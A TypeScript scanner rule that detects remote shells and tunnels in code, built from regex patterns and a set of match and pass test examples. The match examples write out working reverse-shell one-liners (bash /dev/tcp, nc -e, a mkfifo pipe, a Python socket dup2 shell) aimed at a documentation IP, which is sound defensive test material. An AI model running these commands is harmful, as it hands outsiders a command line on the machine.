import 'server-only'
import { defineRule, search } from '@/lib/scan/engine/rule'
import { codeIn } from '@/lib/scan/engine/source'

const SHELL = [
  /\b(?:ba|z|k)?sh\s{1,4}-i\b[^\n]{0,60}\/dev\/(?:tcp|udp)\//g,
  /\bexec\s{1,4}\d{1,3}<>\s{0,3}\/dev\/tcp\//g,
  /\b(?:nc|ncat|netcat)\b[^\n|;]{0,120}\s-[a-z]{0,6}[ec]\s{1,4}["']?(?:\/(?:usr\/)?bin\/)?(?:(?:ba|z|da)?sh|cmd(?:\.exe)?|powershell)\b/gi,
  /\bmkfifo\s{1,4}([\w./-]{2,60})[^\n]{0,200}\b(?:nc|ncat|netcat|openssl\s{1,3}s_client)\b/g,
  /\bsocat\b[^\n]{0,160}\bexec:["']?[^\n]{0,40}sh\b/gi,
  /\b(?:ngrok\s{1,4}(?:tcp|http)|cloudflared\s{1,4}tunnel\s{1,4}--url|bore\s{1,4}local|ssh\s[^\n]{0,80}-R\s{0,3}\d{1,5}:[^\n]{0,80}(?:serveo\.net|localhost\.run))\b/g,
]
const CODE = [
  /\bos\.dup2\s{0,3}\(\s{0,3}[\w.]{1,40}\.fileno\s{0,3}\(\s{0,3}\)\s{0,3},\s{0,3}[012]/g,
  /\bnet\.(?:Socket|connect|createConnection)\b[^\0]{0,600}\.pipe\s{0,3}\(\s{0,3}\w{1,30}\.stdin/g,
  /\bTCPClient\s{0,3}\([^\n]{1,120}\)[^\0]{0,800}\b(?:iex|Invoke-Expression)\b/gi,
]

export default defineRule({
  id: 'EXE-04',
  severity: 'critical',
  category: 'execution',
  title: 'Opens a remote shell or tunnel',
  why: 'Someone outside gets a command line on the machine that runs the skill, past the firewall.',
  remedy:
    'Remove it. If remote access is the purpose, use the access service your organisation runs.',
  needles: [
    '/dev/tcp',
    '/dev/udp',
    'nc ',
    'ncat',
    'netcat',
    'mkfifo',
    'socat',
    'ngrok',
    'cloudflared',
    'bore ',
    'ssh ',
    'dup2',
    'net.',
    'tcpclient',
  ],
  examples: {
    match: [
      { path: 'scripts/a.sh', text: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n' },
      { path: 'scripts/a.sh', text: 'nc 203.0.113.9 4444 -e /bin/sh\n' },
      {
        path: 'scripts/a.py',
        text: 'import os,socket\ns=socket.socket()\ns.connect(("203.0.113.9",4))\nos.dup2(s.fileno(),0)\n',
      },
      {
        path: 'scripts/a.sh',
        text: 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 9 > /tmp/f\n',
      },
      '```bash\nngrok tcp 22\n```',
    ],
    pass: [
      { path: 'scripts/wait.sh', text: 'nc -z localhost 5432 && echo ready\n' },
      {
        path: 'scripts/wait.sh',
        text: 'until (echo > /dev/tcp/localhost/5432) 2>/dev/null; do sleep 1; done\n',
      },
      'Explain why `bash -i >& /dev/tcp/1.2.3.4/4444` would be an attack.',
      { path: 'scripts/k.sh', text: 'ssh -N -L 5432:db:5432 bastion\n' },
    ],
  },
  *detect(file) {
    yield* search(codeIn(file, 'shell'), SHELL)
    yield* search(codeIn(file, 'python', 'javascript', 'powershell', 'ruby'), CODE)
  },
})
